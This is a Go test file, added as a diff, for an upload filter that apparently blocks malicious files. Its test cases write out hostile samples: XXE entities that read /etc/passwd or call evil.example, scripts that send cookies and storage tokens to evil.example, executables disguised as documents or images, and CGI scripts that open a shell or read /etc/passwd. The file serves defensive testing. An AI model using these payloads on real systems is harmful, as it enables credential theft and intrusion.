@@ -1,0 +1,62 @@
+package filter
+
+import (
+	"slices"
+	"testing"
+)
+
+// TestUploadContent sends each file as a multipart upload and checks the
+// rule its content triggers, or that it passes.
+func TestUploadContent(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	pe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00 This program cannot be run in DOS mode.\r\r\n$\x00PE\x00\x00L\x01"
+	elf := "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"
+	svgXXE := `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`
+	for _, c := range []struct {
+		name, ctype, content string
+		want                 string // rule, or "" for a file that passes
+	}{
+		// External entities in uploaded XML: SVG, Office parts, feeds.
+		{"me.svg", "image/svg+xml", svgXXE, "xxe-external-entity"},
+		{"document.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/oob">]><w:document>&e;</w:document>`, "xxe-external-entity"},
+		{"feed.rss", "application/rss+xml", "\ufeff<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><rss/>", "xxe-external-entity"},
+		{"icon.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`, ""},
+		{"notes.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY co "Example Ltd">]><note>&co;</note>`, ""},
+		{"readme.txt", "text/plain", `To declare an entity write <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]> in the file.`, ""},
+
+		// An HTML page whose script sends the cookie or storage away.
+		{"page.html", "text/html", `<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>`, "upload-html-script"},
+		{"x.htm", "application/octet-stream", "<script>fetch(`https://evil.example/k?t=${localStorage.token}`)</script>", "upload-html-script"},
+		{"promo", "text/html", `<!doctype html><img src=x onerror="new Image().src='//evil.example/'+ document.cookie">`, "upload-html-script"},
+		{"site.html", "text/html", `<!doctype html><script>function getCookie(n){const v = "; " + document.cookie; return v.split("; "+n+"=").pop()}</script>`, ""},
+		{"page.html", "text/html", `<!DOCTYPE html><html><head><script src="/app.js"></script></head><body><h1>Hi</h1></body></html>`, ""},
+		{"notes.txt", "text/plain", `I pasted 'https://x/?c='+document.cookie into the console`, ""},
+
+		// An executable presented as a document, an image or text.
+		{"report.pdf.exe", "application/pdf", pe, "upload-disguised-executable"},
+		{"photo.jpg", "image/jpeg", pe, "upload-disguised-executable"},
+		{"invoice.docx", "application/octet-stream", elf, "upload-disguised-executable"},
+		{"setup.exe", "application/x-msdownload", pe, ""},
+		{"tool", "application/octet-stream", elf, ""},
+		{"notes.txt", "text/plain", "MZ is the magic of DOS executables", ""},
+
+		// CGI programs.
+		{"rev.pl", "application/x-perl", "#!/usr/bin/perl\nuse Socket;exec(\"/bin/sh -i\");", "upload-script-file"},
+		{"a.cgi", "text/plain", "#!/bin/sh\necho; /bin/cat /etc/passwd", "upload-script-file"},
+		{"lib.pl", "text/plain", "% a Prolog file\nparent(tom, bob).", ""},
+		{"deploy.sh", "text/x-shellscript", "#!/bin/sh\nmake install", ""},
+	} {
+		body, ct := multipartOf([][2]string{{"title", "my file"}}, [][4]string{{"file", c.name, c.ctype, c.content}})
+		d, err := eng.Inspect(newReq("POST", "http://shop.example.com/api/v1/upload", ct, body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var rules []string
+		for _, m := range d.Matches {
+			rules = append(rules, m.Rule)
+		}
+		if c.want == "" && d.Blocked || c.want != "" && !slices.Contains(rules, c.want) {
+			t.Errorf("%s (%s): blocked=%v rules %v, want %q", c.name, c.ctype, d.Blocked, rules, c.want)
+		}
+	}
+}
